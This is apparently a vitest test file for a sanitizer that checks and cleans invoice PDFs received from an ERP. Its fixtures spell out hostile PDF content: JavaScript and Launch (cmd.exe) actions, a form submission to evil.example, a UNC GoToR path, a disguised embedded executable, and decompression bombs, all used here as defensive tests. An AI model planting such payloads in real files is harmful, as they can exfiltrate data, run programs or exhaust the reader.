import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { deflateSync, inflateSync } from 'node:zlib'
import fc from 'fast-check'
import { AFRelationship, PDFDocument } from 'pdf-lib'
import { describe, expect, it } from 'vitest'
import { type CheckedPdf, checkPdf, type PdfLimits } from '../../src/documents/check-pdf.ts'
import { latin1, rawPdf, stream } from '../fixtures/pdf/raw-pdf.ts'

const printed = readFileSync(new URL('../fixtures/pdf/invoice-printed.pdf', import.meta.url))

const accepted = async (bytes: Uint8Array, limits?: PdfLimits): Promise<Extract<CheckedPdf, { ok: true }>> => {
  const checked = await checkPdf(bytes, limits)
  if (!checked.ok) throw new Error(`refused: ${checked.reason}`)
  return checked
}

const refusal = async (bytes: Uint8Array, limits?: PdfLimits): Promise<string> => {
  const checked = await checkPdf(bytes, limits)
  return checked.ok ? `accepted with ${checked.pages} pages` : checked.reason
}

/** All that a document says: its bytes, and every stream in it unpacked. */
const unpacked = (bytes: Uint8Array): string => {
  const raw = Buffer.from(bytes).toString('latin1')
  const streams = [...raw.matchAll(/stream\r?\n([\s\S]*?)endstream/g)].map(([, data = '']) => {
    try {
      return inflateSync(latin1(data)).toString('latin1')
    } catch {
      return '' // not compressed: in the bytes already
    }
  })
  return [raw, ...streams].join('\n')
}

describe('a harmless invoice', () => {
  it('is kept byte for byte, with its pages and its hash', async () => {
    const checked = await accepted(printed)
    expect(checked.pages).toBe(1)
    expect(checked.removed).toEqual([])
    expect(Buffer.from(checked.bytes).equals(printed)).toBe(true)
    expect(checked.sha256).toBe(createHash('sha256').update(printed).digest('hex'))
  })

  it('may have up to 1 KiB before its header, and no more', async () => {
    const behind = (count: number) => Buffer.concat([Buffer.alloc(count, 0x0a), rawPdf()])
    expect((await accepted(behind(1000))).pages).toBe(1)
    expect(await refusal(behind(1024))).toBe('The ERP sent a text in place of a PDF.')
  })

  it('keeps the XML of an e-invoice', async () => {
    const pdf = await PDFDocument.load(printed)
    const xml = latin1('<rsm:CrossIndustryInvoice/>')
    await pdf.attach(xml, 'factur-x.xml', { mimeType: 'text/xml', afRelationship: AFRelationship.Alternative })
    expect((await accepted(await pdf.save())).removed).toEqual([])
  })

  it('keeps the page to show first', async () => {
    expect((await accepted(rawPdf([], { catalog: '/OpenAction [3 0 R /Fit]' }))).removed).toEqual([])
    const action = '<< /S /GoTo /D [3 0 R /Fit] >>'
    expect((await accepted(rawPdf([], { catalog: `/OpenAction ${action}` }))).removed).toEqual([])
  })

  it('is not taken for active because a font is called AA', async () => {
    const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
    const page = '/Resources << /Font << /AA 4 0 R /JS 4 0 R >> >>'
    expect((await accepted(rawPdf([font], { page }))).removed).toEqual([])
  })

  it('may hold its objects in compressed streams', async () => {
    const pdf = await PDFDocument.create()
    for (let i = 0; i < 30; i++) pdf.addPage()
    expect((await accepted(await pdf.save({ useObjectStreams: true }))).pages).toBe(30)
  })
})

describe('what is no invoice', () => {
  it('is refused with what came in its place', async () => {
    expect(await refusal(Buffer.alloc(0))).toBe('The file is empty.')
    expect(await refusal(latin1('<!DOCTYPE html><html><body>502 Bad Gateway</body></html>'))).toBe(
      'The ERP sent a web page in place of a PDF.',
    )
    expect(await refusal(latin1('There is no default Crystal Report layout'))).toBe(
      'The ERP sent a text in place of a PDF.',
    )
    expect(await refusal(Buffer.from([0x50, 0x4b, 3, 4, 0, 0]))).toBe('The file is not a PDF.')
  })

  it('is worth another try when it is no file of the ERP, and not when the file itself cannot be used', async () => {
    const page = await checkPdf(latin1('<html><title>Just a moment</title></html>'))
    expect(page).toMatchObject({ ok: false, again: true })
    const large = await checkPdf(Buffer.alloc(1_600_000), { maxBytes: 1_572_864 })
    expect(large).toMatchObject({ ok: false, again: false })
  })

  it('is refused above the limits', async () => {
    expect(await refusal(Buffer.alloc(1_600_000), { maxBytes: 1_572_864 })).toBe('The file is larger than 1.5 MiB.')
    const pdf = await PDFDocument.create()
    for (let i = 0; i < 3; i++) pdf.addPage()
    expect(await refusal(await pdf.save(), { maxPages: 2 })).toBe('The PDF has more than 2 pages.')
  })

  it('is refused without pages', async () => {
    expect(await refusal(rawPdf([], { kids: '[]' }))).toBe('The PDF has no pages.')
  })

  it('is refused when encrypted', async () => {
    const pdf = await PDFDocument.load(printed)
    pdf.encrypt({ userPassword: '', ownerPassword: 'owner' })
    expect(await refusal(await pdf.save())).toBe('The PDF is encrypted. Turn its protection off in the ERP.')
  })

  it('is refused when it is cut off, wherever that is', async () => {
    for (const length of [9, 3000, printed.length - 1100]) {
      expect(await refusal(printed.subarray(0, length))).toBe('The PDF is cut off: its end is missing.')
    }
  })

  it('is refused when nothing of it can be read', async () => {
    expect(await refusal(latin1('%PDF-1.7\nstartxref\n0\n%%EOF\n'))).toMatch(/^The PDF is damaged/)
  })
})

describe('active content', () => {
  const removedFrom = async (bytes: Uint8Array) => {
    const checked = await accepted(bytes)
    const again = await accepted(checked.bytes)
    expect(again.removed).toEqual([]) // cleaning leaves nothing to clean
    expect(again.pages).toBe(checked.pages)
    expect(checked.sha256).toBe(createHash('sha256').update(checked.bytes).digest('hex'))
    return { removed: checked.removed, text: unpacked(checked.bytes) }
  }

  it.each([
    ['a script that runs on opening', '<< /S /JavaScript /JS (app.alert(1)) >>', 'JavaScript'],
    ['a script with a disguised name', '<< /S /J#61vaScript /JS (app.alert(1)) >>', 'JavaScript'],
    ['a program', '<< /S /Launch /F (cmd.exe) >>', 'Launch action'],
    ['a form that is sent away', '<< /S /SubmitForm /F (https://evil.example) >>', 'SubmitForm action'],
    ['a file on a server', '<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) >>', 'GoToR action'],
    ['a script behind a link', '<< /S /URI /URI (javascript:alert\\(1\\)) >>', 'javascript link'],
  ])('%s is removed from an annotation', async (_, action, label) => {
    const annotation = `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 5 0 R >>`
    const { removed, text } = await removedFrom(rawPdf([annotation, action], { page: '/Annots [4 0 R]' }))
    expect(removed).toEqual([label])
    expect(text).toContain('/Annots')
    expect(text).not.toMatch(/JavaScript|cmd\.exe|evil\.example|javascript:/)
  })

  it('is removed from the catalog, the name tree, the form and the events of pages', async () => {
    const bytes = rawPdf(
      [
        '<< /Names [(a) 5 0 R (b) << /S /JavaScript /JS 6 0 R >>] >>',
        '<< /S /JavaScript /JS (first) >>',
        stream(6, '', latin1('second')),
      ],
      {
        catalog:
          '/OpenAction << /S /Named /N /Print >> /Names << /JavaScript 4 0 R >> /AcroForm << /Fields [] /XFA (x) >>',
        page: '/AA << /O << /S /JavaScript /JS (third) >> >>',
      },
    )
    const { removed, text } = await removedFrom(bytes)
    expect(removed).toEqual(['JavaScript', 'XFA form', 'automatic action', 'open action'])
    expect(text).not.toMatch(/first|second|third|XFA|Print/)
  })

  it('is removed from a chain of actions that begins harmless', async () => {
    const chain = '<< /S /URI /URI (https://shop.example) /Next [<< /S /Launch /F (x) >> << /S /GoTo /D (a) >>] >>'
    const { removed, text } = await removedFrom(
      rawPdf([`<< /Subtype /Link /A ${chain} >>`], { page: '/Annots [4 0 R]' }),
    )
    expect(removed).toEqual(['Launch action'])
    expect(text).toContain('shop.example')
    expect(text).toContain('GoTo')
  })

  it('is removed when it hides in a compressed object stream', async () => {
    const objects = '10 0 << /S /JavaScript /JS (hidden) >>'
    const packed = stream(4, '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', deflateSync(latin1(objects)))
    const { removed, text } = await removedFrom(rawPdf([packed], { page: '/Annots [<< /Subtype /Link /A 10 0 R >>]' }))
    expect(removed).toEqual(['JavaScript'])
    expect(text).not.toContain('hidden')
  })

  it('is removed with objects that cannot be read', async () => {
    const { removed, text } = await removedFrom(rawPdf(['<< /S /Java#53cript /JS <<< >>']))
    expect(removed).toEqual(['unreadable object'])
    expect(text).not.toContain('cript')
  })

  it('takes attached programs along, whatever second name they have', async () => {
    const file = stream(5, '/Type /EmbeddedFile', latin1('MZ program'))
    const spec = '<< /Type /Filespec /F (readme.xml) /UF (setup.exe) /EF << /F 5 0 R >> >>'
    const xml = '<< /Type /Filespec /F (invoice.xml) /EF << /F 7 0 R >> >>'
    const names = '/Names << /EmbeddedFiles << /Names [(a) 4 0 R (b) 6 0 R] >> >>'
    const bytes = rawPdf([spec, file, xml, stream(7, '', latin1('<Invoice/>'))], { catalog: names })
    const { removed, text } = await removedFrom(bytes)
    expect(removed).toEqual(['attached file'])
    expect(text).not.toMatch(/MZ program|setup/)
    expect(text).toMatch(/\(b\)[\s\S]*<Invoice\/>/)
    expect(text).not.toContain('(a)')
  })
})

describe('hostile files', () => {
  it('do not unpack beyond the allowance', async () => {
    const bomb = deflateSync(Buffer.alloc(100_000_000, 0x20))
    const reason = 'The PDF unpacks to more than a document can need.'
    const objects = stream(4, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb)
    expect(await refusal(rawPdf([objects]))).toBe(reason)
    const table = stream(4, '/Type /XRef /Size 10 /W [1 1 1] /Root 1 0 R /Filter /FlateDecode', bomb)
    expect(await refusal(rawPdf([table]))).toBe(reason)
    const endless = stream(4, '/Type /XRef /Size 2000000000 /W [0 0 0] /Root 1 0 R', latin1('x'))
    expect(await refusal(rawPdf([endless]))).toBe(reason)
  })

  it('are refused when some of their packed objects stay hidden from us', async () => {
    const reason = 'The PDF is damaged: some of its objects cannot be read.'
    const script = latin1('10 0 << /S /JavaScript /JS (hidden) >>')
    const packed = (filter: string, data: Uint8Array, count = 1) =>
      rawPdf([stream(4, `/Type /ObjStm /N ${count} /First 5 /Filter ${filter}`, data)])
    expect(await refusal(packed('[/FlateDecode /FlateDecode]', deflateSync(deflateSync(script))))).toBe(reason)
    expect(await refusal(packed('/FlateDecode', deflateSync(script).fill(0, 12, 20)))).toBe(reason)
    expect(await refusal(packed('/FlateDecode', deflateSync(script), 2))).toBe(reason)
  })

  it('do not loop', async () => {
    expect(await refusal(rawPdf([], { kids: '[2 0 R]' }))).toBe('The PDF is damaged: its pages loop.')
    const loops = ['5 0 R', '4 0 R', '<< /A 4 0 R /S 6 0 R /AA 6 0 R /EF 6 0 R >>']
    expect((await accepted(rawPdf(loops))).pages).toBe(1)
  })

  it('do not nest without end', async () => {
    expect((await accepted(rawPdf(['['.repeat(2_000_000)]))).pages).toBe(1)
  })

  it('do not take this process down when they fill the heap', async () => {
    const reason = 'The PDF cannot be read: it is damaged, or needs too much memory.'
    expect(await refusal(rawPdf([`(${'x'.repeat(9_900_000)})`]))).toBe(reason)
  })

  it('are given up after the time allowed', async () => {
    const quadratic = latin1('9 0 obj '.repeat(1_000_000))
    expect(await refusal(rawPdf([quadratic]), { timeoutMs: 1500 })).toBe('The PDF takes too long to read.')
  })

  it('never make it throw, however an invoice is mangled', async () => {
    const mangled = fc
      .tuple(fc.nat(printed.length - 1), fc.uint8Array({ maxLength: 40 }), fc.nat(400))
      .map(([at, bytes, skip]) => Buffer.concat([printed.subarray(0, at), bytes, printed.subarray(at + skip)]))
    await fc.assert(
      fc.asyncProperty(mangled, async bytes => {
        const checked = await checkPdf(bytes)
        if (checked.ok) expect(checked.pages).toBeGreaterThan(0)
        else expect(checked.reason).toMatch(/^The .+\.$/)
      }),
      { numRuns: 12 },
    )
  })
})
